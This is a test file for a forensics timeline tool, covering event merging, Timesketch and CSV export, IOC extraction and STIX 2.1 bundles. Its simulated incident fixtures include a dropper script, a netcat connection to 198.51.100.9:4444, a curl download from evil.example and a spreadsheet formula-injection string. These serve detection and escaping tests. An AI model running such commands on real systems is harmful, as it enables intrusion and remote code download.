// One axis from many sources, the same bytes whatever order they arrive in, and the exports other tools read.
import { describe, expect, it } from 'vitest';
import { makeEvent, type AttributeValue } from '../../src/forensics/common/timeline-event.js';
import { csvCell, PLASO_CSV_HEADER, plasoCsvRow, timesketchLine } from '../../src/forensics/common/timeline-exports.js';
import { addressScope, IocCollector, IOC_CSV_HEADER, iocCsvRow } from '../../src/forensics/common/timeline-iocs.js';
import { mergeTimeline } from '../../src/forensics/common/timeline-merge.js';
import type { TimelineEvent, TimelineSource } from '../../src/forensics/common/timeline-model.js';
import { stixBundle, stixPattern, uuidV5 } from '../../src/forensics/node/timeline-stix.js';

function at(second: number, nanos = 0): { tns: string; at: string } {
  const sec = 1_795_397_200 + second;
  return {
    tns: `${sec}${String(nanos).padStart(9, '0')}`,
    at: `${new Date(sec * 1000).toISOString().slice(0, 19)}.${String(nanos).padStart(9, '0')}Z`,
  };
}

function ev(
  second: number,
  source: TimelineSource,
  kind: string,
  locator: string,
  subject: TimelineEvent['subject'] = {},
  attributes: Record<string, AttributeValue> = {},
  summary = kind,
): TimelineEvent {
  return makeEvent({
    time: at(second),
    source,
    kind,
    subject,
    summary,
    attributes,
    confidence: source === 'filesystem' ? 'approximate' : 'exact',
    evidence: { itemId: `${source}-item`, sha256: 'a'.repeat(64), locator },
  });
}

/** A small incident from four sources, each source's events in the order its mapper gives them. */
const UNITS: TimelineEvent[][] = [
  [
    ev(1, 'syscall', 'file.write', 'seq 1', { pid: 7, path: '/tmp/dropper.sh' }, { flags: 'O_WRONLY|O_CREAT' }),
    ev(2, 'syscall', 'file.chmod', 'seq 2', { pid: 8, path: '/tmp/dropper.sh' }, { mode: '0755' }),
    ev(3, 'syscall', 'process.exec', 'seq 3', { pid: 9, process: '/tmp/dropper.sh' }, { exe: '/tmp/dropper.sh' }),
    ev(3, 'syscall', 'process.exec', 'seq 4', { pid: 10, process: 'sh -c id' }, { exe: '/bin/sh' }),
    ev(4, 'syscall', 'network.connect', 'seq 5', {
      pid: 11,
      process: 'nc 198.51.100.9 4444',
      address: '198.51.100.9',
      port: 4444,
    }),
  ],
  [
    ev(
      3,
      'filesystem',
      'file.added',
      'path /tmp/dropper.sh',
      { path: '/tmp/dropper.sh' },
      { mode: '0755', sha256: 'd'.repeat(64) },
    ),
  ],
  [ev(3, 'container-logs', 'log.tty', 'line 1', {}, {}, 'dropper-ran')],
  [ev(9, 'custody', 'responder.isolate.pause', 'record 4')],
];

function shuffled<T>(items: readonly T[], seed: number): T[] {
  const out = [...items];
  let state = seed;
  for (let index = out.length - 1; index > 0; index--) {
    state = (state * 1103515245 + 12345) % 2147483648;
    const other = state % (index + 1);
    [out[index], out[other]] = [out[other] as T, out[index] as T];
  }
  return out;
}

describe('merging sources', () => {
  const reference = mergeTimeline(UNITS);

  it('given the same events in any order, within and across sources, then the timeline is the same bytes', () => {
    for (let seed = 1; seed <= 25; seed++) {
      const units = shuffled(UNITS, seed).map((unit, index) => shuffled(unit, seed * 31 + index));
      expect(mergeTimeline(units).lines.join('\n')).toBe(reference.lines.join('\n'));
    }
  });

  it('given ties at one instant, then the fixed source order and the id decide (logs, then filesystem, then syscall)', () => {
    const atThree = reference.lines
      .map((line) => JSON.parse(line) as TimelineEvent)
      .filter((event) => event.tns.startsWith('1795397203'));
    expect(atThree.map((event) => event.source)).toEqual(['container-logs', 'filesystem', 'syscall', 'syscall']);
  });

  it('given the dropper written, armed and run, then rules and the chain tag it and the tallies count it', () => {
    const events = reference.lines.map((line) => JSON.parse(line) as TimelineEvent);
    const techniques = Object.fromEntries(
      events.map((event) => [`${event.kind} ${event.subject.pid ?? ''}`, event.techniques]),
    );
    expect(techniques['file.chmod 8']).toEqual(['T1105']);
    expect(techniques['process.exec 9']).toEqual(['T1105']);
    expect(techniques['process.exec 10']).toEqual(['T1059.004']);
    expect(techniques['network.connect 11']).toEqual([]);
    expect(reference.tally).toMatchObject({
      events: 8,
      first: at(1).at,
      last: at(9).at,
      bySource: { 'container-logs': 1, custody: 1, filesystem: 1, syscall: 5 },
      byTechnique: { 'T1059.004': 1, T1105: 2 },
    });
  });
});

describe('Timesketch and plaso-like CSV', () => {
  const events = mergeTimeline(UNITS).lines.map((line) => JSON.parse(line) as TimelineEvent);

  it('given every event, then each Timesketch line has message, datetime (ISO 8601) and timestamp_desc, plus flat fields', () => {
    for (const event of events) {
      const line = JSON.parse(timesketchLine(event)) as Record<string, unknown>;
      expect(typeof line['message']).toBe('string');
      expect(line['datetime']).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z$/);
      expect(typeof line['timestamp_desc']).toBe('string');
      expect(line['timestamp']).toBe(Number(BigInt(event.tns) / 1000n));
      for (const value of Object.values(line))
        expect(typeof value === 'object' && value !== null && !Array.isArray(value)).toBe(false);
    }
    const exec = JSON.parse(timesketchLine(events.find((event) => event.subject.pid === 9) as TimelineEvent)) as Record<
      string,
      unknown
    >;
    expect(exec).toMatchObject({
      timestamp_desc: 'Syscall Time',
      holdcell_source: 'syscall',
      pid: 9,
      exe: '/tmp/dropper.sh',
      attack_rules: 'dropper-chain',
      tag: ['T1105'],
      evidence_locator: 'seq 3',
    });
    const added = JSON.parse(
      timesketchLine(events.find((event) => event.kind === 'file.added') as TimelineEvent),
    ) as Record<string, unknown>;
    expect(added['timestamp_desc']).toBe('Content Modification Time');
  });

  it('given an attribute named like a Timesketch field, then it is kept under attr_ instead of replacing the field', () => {
    const line = JSON.parse(
      timesketchLine(ev(1, 'engine', 'x', 'l', {}, { message: 'spoof', 'field.proc.name': 'sh' })),
    ) as Record<string, unknown>;
    expect(line['message']).toBe('x');
    expect(line['attr_message']).toBe('spoof');
    expect(line['field_proc_name']).toBe('sh');
  });

  it('given hostile evidence text, then a CSV cell is one visible line and never a formula', () => {
    expect(csvCell('=HYPERLINK("http://x")')).toBe(`"'=HYPERLINK(""http://x"")"`);
    expect(csvCell('-1+2')).toBe("'-1+2");
    expect(csvCell('line one\nline two\u001b[31m')).toBe('line one\\nline two\\x1b[31m');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell(' padded')).toBe('" padded"');
  });

  it('given the events, then the CSV rows have the documented eight columns', () => {
    expect(PLASO_CSV_HEADER.split(',')).toEqual([
      'datetime',
      'timestamp_desc',
      'source',
      'source_long',
      'message',
      'parser',
      'display_name',
      'tag',
    ]);
    const row = plasoCsvRow(events.find((event) => event.subject.pid === 9) as TimelineEvent);
    expect(row).toBe(
      `${at(3).at},Syscall Time,SYSCALL,Syscall trace (replayed),process.exec,holdcell/syscall,syscall-item:seq 3,T1105`,
    );
  });
});

describe('IOCs and STIX 2.1', () => {
  const collector = new IocCollector();
  for (const event of mergeTimeline(UNITS).lines.map((line) => JSON.parse(line) as TimelineEvent)) collector.add(event);
  collector.add(
    ev(
      5,
      'syscall',
      'process.exec',
      'seq 9',
      { process: 'curl -o /tmp/x https://evil.example/x.sh?a=1' },
      { exe: '/usr/bin/curl' },
    ),
  );
  collector.add(ev(5, 'filesystem', 'file.added', "path /tmp/o'brien.sh", { path: "/tmp/o'brien.sh" }));
  collector.add(ev(6, 'syscall', 'network.connect', 'seq 10', { address: '127.0.0.1', port: 4444 }));
  const iocs = collector.list();

  it('given the timeline, then hashes and paths of added files, contacted endpoints, URLs and domains are listed once each', () => {
    expect(iocs.map((ioc) => `${ioc.type} ${ioc.value} ${ioc.scope} ${ioc.count}`)).toEqual([
      'domain evil.example  1',
      'endpoint 127.0.0.1:4444 loopback 1',
      'endpoint 198.51.100.9:4444 public 1',
      'ipv4 127.0.0.1 loopback 1',
      'ipv4 198.51.100.9 public 1',
      'path /tmp/dropper.sh  3',
      "path /tmp/o'brien.sh  1",
      `sha256 ${'d'.repeat(64)}  1`,
      'url https://evil.example/x.sh?a=1  1',
    ]);
    expect(IOC_CSV_HEADER.split(',')).toHaveLength(iocCsvRow(iocs[0] as (typeof iocs)[number]).split(',').length);
  });

  it('given addresses, then their scope is told apart', () => {
    expect(
      ['10.1.2.3', '172.20.0.1', '192.168.1.1', '169.254.169.254', '8.8.8.8', '::1', 'fd00::1', 'fe80::1'].map(
        addressScope,
      ),
    ).toEqual(['private', 'private', 'private', 'link-local', 'public', 'loopback', 'private', 'link-local']);
  });

  it('given the RFC 4122 example, then UUID v5 matches the reference implementation', () => {
    expect(uuidV5('python.org', '6ba7b810-9dad-11d1-80b4-00c04fd430c8')).toBe('886313e1-3b8a-5372-9b90-0c9aee199e5d');
  });

  it('given the IOCs, then the bundle has content ids, event times and valid patterns, loopback left out, same bytes twice', () => {
    const bundle = stixBundle(iocs, 'case-1') as { type: string; id: string; objects: Record<string, unknown>[] };
    expect(JSON.stringify(stixBundle(iocs, 'case-1'))).toBe(JSON.stringify(bundle));
    expect(bundle.type).toBe('bundle');
    expect(bundle.id).toMatch(/^bundle--[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    const [identity, ...indicators] = bundle.objects;
    expect(identity).toMatchObject({ type: 'identity', spec_version: '2.1', identity_class: 'system' });
    expect(indicators).toHaveLength(7);
    for (const indicator of indicators) {
      expect(indicator).toMatchObject({
        type: 'indicator',
        spec_version: '2.1',
        pattern_type: 'stix',
        created_by_ref: identity?.['id'],
      });
      expect(indicator['id']).toMatch(/^indicator--[0-9a-f-]{36}$/);
      expect(indicator['created']).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      expect(indicator['valid_from']).toBe(indicator['created']);
    }
    expect(indicators.map((indicator) => indicator['pattern'])).toContain(
      "[file:name = 'o\\'brien.sh' AND file:parent_directory_ref.path = '/tmp']",
    );
    expect(stixPattern(iocs.find((ioc) => ioc.type === 'path') as (typeof iocs)[number])).toBe(
      "[file:name = 'dropper.sh' AND file:parent_directory_ref.path = '/tmp']",
    );
    expect(indicators.some((indicator) => String(indicator['pattern']).includes('127.0.0.1'))).toBe(false);
  });
});
